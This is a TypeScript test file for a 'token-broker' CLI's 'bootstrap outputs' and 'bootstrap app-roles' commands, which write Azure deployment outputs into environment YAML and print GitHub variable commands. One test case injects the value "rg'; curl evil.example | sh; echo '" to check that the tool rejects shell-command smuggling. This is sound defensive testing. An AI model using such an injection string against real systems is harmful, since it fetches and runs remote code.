/**
 * `token-broker bootstrap outputs` and `bootstrap app-roles`, run in-process through main() on real files. The
 * outputs file has exactly the outputs the synthesized bootstrap stack declares (values filled in as Azure would),
 * so the command and the stack cannot drift apart.
 */
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "yaml";
import { main } from "../../lib/cli/main";
import { stackEnvironments } from "../../stacks/environments";
import { ROOT } from "../policy/helpers";
import { synthBootstrap } from "../stacks/bootstrap-helpers";

async function run(argv: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(
    argv,
    (s) => out.push(s),
    (s) => err.push(s),
  );
  return { code, out: out.join("\n"), err: err.join("\n") };
}

const { json } = synthBootstrap();
const ids = {
  tenant: "11111111-2222-4333-8444-555555555555",
  subscription: "22222222-3333-4444-8555-666666666666",
  dev: "aaaaaaaa-0000-4000-8000-00000000000d",
  prod: "aaaaaaaa-0000-4000-8000-00000000000f",
  pr: "aaaaaaaa-0000-4000-8000-00000000000e",
  ephemeral: "bbbbbbbb-0000-4000-8000-000000000001",
  production: "bbbbbbbb-0000-4000-8000-000000000002",
};
/** What `cdktf deploy --outputs-file` would write: every declared output, resolved. */
function deployedOutputs(): Record<string, Record<string, unknown>> {
  const resolved: Record<string, unknown> = {
    azure_tenant_id: ids.tenant,
    azure_subscription_id: ids.subscription,
    github_repository: "contoso/docs",
    tfstate_resource_group: "rg-docs-bootstrap",
    tfstate_storage_account: "stdocstfstate1a2b3",
    api_client_ids: { dev: ids.dev, prod: ids.prod, pr: ids.pr },
    ephemeral_deployer_client_id: ids.ephemeral,
    production_deployer_client_id: ids.production,
    smoke_api_client_id: ids.pr,
  };
  const outputs: Record<string, unknown> = {};
  for (const [name, o] of Object.entries(json.output)) {
    outputs[name] = name in resolved ? resolved[name] : o.value; // the rest are literals at synth
    expect(JSON.stringify(outputs[name])).not.toContain("${");
  }
  return { "broker-bootstrap": outputs };
}

function workspace() {
  const dir = mkdtempSync(join(tmpdir(), "tb-bootstrap-cli-"));
  cpSync(join(ROOT, "policies"), join(dir, "policies"), { recursive: true });
  writeFileSync(join(dir, "outputs.json"), JSON.stringify(deployedOutputs()));
  return dir;
}

describe("bootstrap outputs", () => {
  it("sets each entry's apiAudience and the dev/prod remote state, keeping comments; the result still checks", async () => {
    const dir = workspace();
    const envFile = join(dir, "policies", "environments.yaml");
    const original = readFileSync(envFile, "utf8").split("\n");
    const r = await run(["bootstrap", "outputs", "--outputs", join(dir, "outputs.json"), "--environments", envFile]);
    expect(r).toMatchObject({ code: 0, err: "" });
    // Five values, five lines: the rest of the file is untouched, byte for byte.
    const changed = readFileSync(envFile, "utf8").split("\n");
    expect(changed).toHaveLength(original.length);
    expect(changed.filter((l, i) => l !== original[i])).toHaveLength(5);
    expect(r.out).toContain("dev.values.apiAudience, prod.values.apiAudience, pr.values.apiAudience");
    const text = readFileSync(envFile, "utf8");
    expect(text).toContain("# The one home of per-environment values");
    const envs = parse(text).environments;
    expect(envs.dev.values.apiAudience).toBe(ids.dev);
    expect(envs.prod.values.apiAudience).toBe(ids.prod);
    expect(envs.pr.values.apiAudience).toBe(ids.pr);
    expect(envs.prod.azure.state).toEqual({
      resourceGroup: "rg-docs-bootstrap",
      storageAccount: "stdocstfstate1a2b3",
      container: "tfstate-prod",
    });
    expect(envs.pr.azure.state).toBeUndefined(); // per-PR keys come from the TFSTATE_* variables
    // The stacks read the written values: the dev backend points at the new storage, Easy Auth at the new client id.
    const dev = stackEnvironments(join(dir, "policies"), undefined, {}).find((e) => e.name === "dev")!;
    expect(dev.infra.azure.state).toMatchObject({ storageAccount: "stdocstfstate1a2b3", container: "tfstate-dev" });
    expect(dev.infra.issuers[0].audiences).toEqual([ids.dev]);
    // A second run changes nothing.
    const again = await run([
      "bootstrap",
      "outputs",
      "--outputs",
      join(dir, "outputs.json"),
      "--environments",
      envFile,
    ]);
    expect(again.out).toContain("already up to date");
    expect(readFileSync(envFile, "utf8")).toBe(text);
  });

  it("prints a gh variable line for every variable the ephemeral workflow reads, and the production client id", async () => {
    const dir = workspace();
    const r = await run(["bootstrap", "outputs", "--outputs", join(dir, "outputs.json")]);
    expect(r.code).toBe(0);
    const wf = readFileSync(join(ROOT, ".github", "workflows", "ephemeral-env.yml"), "utf8");
    const read = [...new Set([...wf.matchAll(/vars\.([A-Z_]+)/g)].map((m) => m[1]))].sort();
    const set = [...r.out.matchAll(/^gh variable set ([A-Z_]+) --repo 'contoso\/docs' --body '/gm)].map((m) => m[1]);
    expect([...new Set(set)].sort()).toEqual(read);
    expect(r.out).toContain(`gh variable set AZURE_CLIENT_ID --repo 'contoso/docs' --body '${ids.ephemeral}'`);
    expect(r.out).toContain("gh variable set TFSTATE_CONTAINER --repo 'contoso/docs' --body 'tfstate-pr'");
    expect(r.out).toContain(`gh variable set SMOKE_API_CLIENT_ID --repo 'contoso/docs' --body '${ids.pr}'`);
    expect(r.out).toContain(
      `gh variable set AZURE_CLIENT_ID --repo 'contoso/docs' --env 'production' --body '${ids.production}'`,
    );
  });

  it.each([
    ["a shell command in a value", { tfstate_resource_group: "rg'; curl evil.example | sh; echo '" }],
    ["a client id that is not a GUID", { ephemeral_deployer_client_id: "not-a-guid" }],
    ["a YAML structure in a client id", { api_client_ids: { dev: "{a: 1}" } }],
    ["a missing output", { azure_tenant_id: undefined }],
  ])("refuses %s (exit 1, the value never printed)", async (_what, patch) => {
    const dir = workspace();
    const outputs = deployedOutputs();
    Object.assign(outputs["broker-bootstrap"], patch);
    writeFileSync(join(dir, "outputs.json"), JSON.stringify(outputs));
    const envFile = join(dir, "policies", "environments.yaml");
    const before = readFileSync(envFile, "utf8");
    const r = await run(["bootstrap", "outputs", "--outputs", join(dir, "outputs.json"), "--environments", envFile]);
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/^--outputs: output '[a-z_]+' /);
    expect(r.out + r.err).not.toContain("evil");
    expect(readFileSync(envFile, "utf8")).toBe(before);
  });

  it("without --outputs is a usage error", async () => {
    expect((await run(["bootstrap", "outputs"])).code).toBe(2);
  });
});

describe("bootstrap app-roles", () => {
  it("lists the values the policy reads and records new ones without dropping a retired one", async () => {
    const dir = workspace();
    const policies = join(dir, "policies");
    writeFileSync(join(policies, "entra-app-roles.json"), JSON.stringify({ pr: ["Docs.Legacy", "Docs.Reader"] }));
    const r = await run(["bootstrap", "app-roles", policies, "--write"]);
    expect(r.code).toBe(0);
    expect(r.out).toContain("pr: Docs.Admin, Docs.Editor, Docs.Reader; new: Docs.Admin, Docs.Editor");
    expect(r.out).toContain("no longer read (kept, disabled): Docs.Legacy");
    const record = JSON.parse(readFileSync(join(policies, "entra-app-roles.json"), "utf8"));
    expect(record.pr).toEqual(["Docs.Admin", "Docs.Editor", "Docs.Legacy", "Docs.Reader"]);
    expect(record.dev).toEqual(["Docs.Admin", "Docs.Editor", "Docs.Reader"]);
  });

  it("the committed record holds every value the example policy reads (synthesis has nothing to add)", async () => {
    const r = await run(["bootstrap", "app-roles", join(ROOT, "policies")]);
    expect(r.code).toBe(0);
    expect(r.out).not.toContain("new:");
    expect(r.out).not.toContain("not recorded yet");
  });
});
